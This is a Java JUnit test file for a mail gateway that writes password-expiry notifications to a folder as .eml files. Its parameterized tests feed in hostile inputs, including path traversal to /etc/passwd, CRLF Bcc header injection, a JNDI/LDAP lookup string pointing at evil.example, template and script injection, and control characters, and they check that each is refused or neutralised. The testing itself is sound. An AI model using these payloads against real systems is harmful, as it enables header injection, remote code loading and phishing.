package org.keyturn.agent.notify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import jakarta.mail.Address;
import jakarta.mail.BodyPart;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Properties;
import java.util.TimeZone;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.keyturn.agent.account.Account;

class FolderGatewayTest {

  @TempDir Path dir;
  private Path folder;
  private FolderGateway gateway;

  @BeforeEach
  void open() {
    folder = dir.resolve("mail");
    gateway = new FolderGateway(folder, "it@contoso.com", "Contoso ©");
  }

  private static Mail mail(String recipient) {
    return mail("<m1@keyturn.example>", recipient);
  }

  private static Mail mail(String messageId, String recipient) {
    return new Mail(
        messageId,
        Instant.parse("2026-11-24T08:00:00Z"),
        recipient,
        "nl",
        "Je wachtwoord verloopt vóór dinsdag",
        "Dag Fenna,\n\n.\nFrom hier € = 100 %\nTijdelijk wachtwoord: Tr7-w=Lq9_zHc3\n",
        "<body>Dag Fenna</body>");
  }

  private List<Path> files() throws IOException {
    if (!Files.exists(folder)) {
      return List.of();
    }
    try (Stream<Path> files = Files.list(folder)) {
      return files.sorted().toList();
    }
  }

  private MimeMessage only() throws Exception {
    assertThat(files()).hasSize(1);
    return parse(files().get(0));
  }

  private static MimeMessage parse(Path file) throws Exception {
    try (InputStream in = Files.newInputStream(file)) {
      return new MimeMessage(Session.getInstance(new Properties()), in);
    }
  }

  private static String part(MimeMessage message, int index) throws Exception {
    MimeMultipart parts = (MimeMultipart) message.getContent();
    BodyPart part = parts.getBodyPart(index);
    return ((String) part.getContent()).replace("\r\n", "\n");
  }

  @Test
  void a_message_is_one_file_that_reads_back() throws Exception {
    assertThat(gateway.handOver(mail("fenna@contoso.com"))).isEqualTo(new Gateway.Taken());

    assertThat(files())
        .extracting(p -> p.getFileName().toString())
        .containsExactly("m1@keyturn.example.eml");
    MimeMessage message = only();
    assertThat(message.getMessageID()).isEqualTo("<m1@keyturn.example>");
    assertThat(message.getSentDate()).isEqualTo("2026-11-24T08:00:00Z");
    assertThat(message.getSubject()).isEqualTo("Je wachtwoord verloopt vóór dinsdag");
    assertThat(message.getHeader("Auto-Submitted")).containsExactly("auto-generated");
    assertThat(message.getContentType()).startsWith("multipart/alternative");
    InternetAddress from = (InternetAddress) message.getFrom()[0];
    assertThat(from.getAddress()).isEqualTo("it@contoso.com");
    assertThat(from.getPersonal()).isEqualTo("Contoso ©");
    assertThat(part(message, 0)).isEqualTo(mail("x").text());
    assertThat(part(message, 1)).isEqualTo(mail("x").html());
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(folder)))
        .isEqualTo("rwx------");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(files().get(0))))
        .isEqualTo("rw-------");
  }

  @Test
  void text_alone_is_a_plain_message() throws Exception {
    Mail full = mail("fenna@contoso.com");
    Mail alone =
        new Mail(
            full.messageId(),
            full.createdAt(),
            full.recipient(),
            "nl",
            full.subject(),
            full.text(),
            "");
    assertThat(gateway.handOver(alone)).isEqualTo(new Gateway.Taken());
    assertThat(only().getContentType()).startsWith("text/plain");
    assertThat(((String) only().getContent()).replace("\r\n", "\n")).isEqualTo(full.text());
  }

  @Test
  void the_same_message_again_is_the_same_file_to_the_byte() throws Exception {
    gateway.handOver(mail("fenna@contoso.com"));
    byte[] first = Files.readAllBytes(files().get(0));
    TimeZone before = TimeZone.getDefault();
    TimeZone.setDefault(TimeZone.getTimeZone("Pacific/Auckland"));
    try {
      new FolderGateway(folder, "it@contoso.com", "Contoso ©").handOver(mail("fenna@contoso.com"));
    } finally {
      TimeZone.setDefault(before);
    }
    assertThat(files()).hasSize(1);
    assertThat(Files.readAllBytes(files().get(0))).isEqualTo(first);
    gateway.handOver(mail("<m2@keyturn.example>", "fenna@contoso.com"));
    assertThat(files()).hasSize(2);
  }

  @Test
  void what_a_crash_left_behind_is_cleared_and_a_link_is_not_followed() throws Exception {
    Files.createDirectory(folder);
    Path victim = Files.writeString(dir.resolve("victim"), "untouched");
    Files.writeString(folder.resolve(".m1@keyturn.example.eml.part"), "half a mess");
    Files.createSymbolicLink(folder.resolve("m1@keyturn.example.eml"), victim);
    assertThat(gateway.handOver(mail("fenna@contoso.com"))).isEqualTo(new Gateway.Taken());
    assertThat(only().getMessageID()).isEqualTo("<m1@keyturn.example>");
    assertThat(files().get(0)).isRegularFile();
    assertThat(Files.isSymbolicLink(files().get(0))).isFalse();
    assertThat(victim).hasContent("untouched");
  }

  @Test
  void a_folder_that_takes_nothing_is_a_reason_to_try_later() throws Exception {
    Files.writeString(folder, "a file where the folder should be");
    assertThat(gateway.handOver(mail("fenna@contoso.com")))
        .isInstanceOfSatisfying(
            Gateway.TryLater.class,
            later ->
                assertThat(later.reason())
                    .contains(folder.toString())
                    .doesNotContain("fenna", "Tr7"));
    Files.delete(folder);
    Files.createDirectories(folder.resolve("m1@keyturn.example.eml/x"));
    assertThat(gateway.handOver(mail("fenna@contoso.com"))).isInstanceOf(Gateway.TryLater.class);
  }

  @ParameterizedTest(name = "{0} ⇒ {1}")
  @CsvSource({
    "<m1@keyturn.example>, m1@keyturn.example.eml",
    "<8c1f5a8e-1+2_3@a-b.example>, 8c1f5a8e-1+2_3@a-b.example.eml",
    "<../../etc/passwd@x>, 32",
    "<.hidden@x>, 32",
    "<a%b@x>, 32",
  })
  void the_file_is_named_after_the_message_id(String messageId, String expected) {
    String name = FolderGateway.fileName(messageId);
    if (expected.equals("32")) {
      assertThat(name).matches("[0-9a-f]{32}\\.eml");
    } else {
      assertThat(name).isEqualTo(expected);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"m1@x", "<m1>", "<m1@x>\r\nBcc: evil@example.org", "<a b@x>", "<@x>", ""})
  void what_is_no_message_id_never_becomes_a_mail(String messageId) {
    assertThatThrownBy(() -> mail(messageId, "fenna@contoso.com"))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @MethodSource("org.keyturn.agent.notify.RecipientsTest#trickery")
  void a_hostile_address_is_refused_and_leaves_no_file(String address) throws Exception {
    assertThat(gateway.handOver(mail(address))).isInstanceOf(Gateway.Refused.class);
    assertThat(files()).isEmpty();
  }

  @ParameterizedTest(name = "{0} ⇒ {1}")
  @CsvSource({
    "fenna@contoso.com, fenna@contoso.com",
    "anna@bücher.example, anna@xn--bcher-kva.example",
    "o'neil+x=y@contoso.com, o'neil+x=y@contoso.com",
  })
  void an_address_is_exactly_one_recipient(String address, String expected) throws Exception {
    assertThat(gateway.handOver(mail(address))).isEqualTo(new Gateway.Taken());
    assertThat(only().getAllRecipients()).extracting(Address::toString).containsExactly(expected);
  }

  @Test
  void a_sender_that_is_no_address_is_told_at_once() {
    assertThatThrownBy(() -> new FolderGateway(folder, "IT department", "Contoso"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("mail.from");
  }

  static List<String> hostileNames() {
    return List.of(
        "Fenna\r\nBcc: evil@example.org\r\n\r\nClick here",
        "\u001b[31mFenna\u001b]0;owned\u0007 de Vries",
        "${jndi:ldap://evil.example/a} Fenna",
        "{{7*7}}{{login}}{{{name}}} Fenna",
        "<script>alert(1)</script> Fenna",
        "Fenna\u202e\u2066\u2028 seirV ed",
        "Fenna https://evil.example/reset?x=1 www.evil.example",
        "Fenna " + "x".repeat(100_000),
        "Fenna\0\u0085\u000b\u000c");
  }

  @ParameterizedTest
  @MethodSource("hostileNames")
  void a_hostile_name_is_one_neutral_line(String name) throws Exception {
    Account account = People.account("f.vries", name, "fenna@contoso.com", "en");
    MemoryOutbox outbox = new MemoryOutbox(People.NOW);
    outbox.add(
        People.reminder(account, Duration.ofDays(14), People.NOW).messages(List.of()).get(0));
    Mail mail = People.written(outbox.get(1));
    assertThat(gateway.handOver(mail)).isEqualTo(new Gateway.Taken());

    MimeMessage message = only();
    assertThat(message.getAllRecipients())
        .extracting(Address::toString)
        .containsExactly("fenna@contoso.com");
    assertThat(message.getRecipients(Message.RecipientType.BCC)).isNull();
    assertThat(Collections.list(message.getAllHeaders())).hasSize(9);
    String text = part(message, 0);
    List<String> lines = new ArrayList<>(text.lines().toList());
    assertThat(lines.get(2))
        .startsWith("Hello ")
        .contains("Fenna")
        .endsWith(",")
        .hasSizeLessThan(80);
    assertThat(lines).as("as many as for any name").hasSize(17);
    assertThat(text + part(message, 1))
        .doesNotContain("${", "{{", "49", "<script", "://", "www.evil", "alert(1)<", "evil.example")
        .doesNotContainPattern("[\\p{Cc}\\p{Cf}\\u2028\\u2029&&[^\\n]]");
    String raw = new String(Files.readAllBytes(files().get(0)), StandardCharsets.ISO_8859_1);
    assertThat(raw).doesNotContain("\u001b", "\0");
    assertThat(raw.lines().filter(line -> line.startsWith("Bcc"))).isEmpty();
  }
}
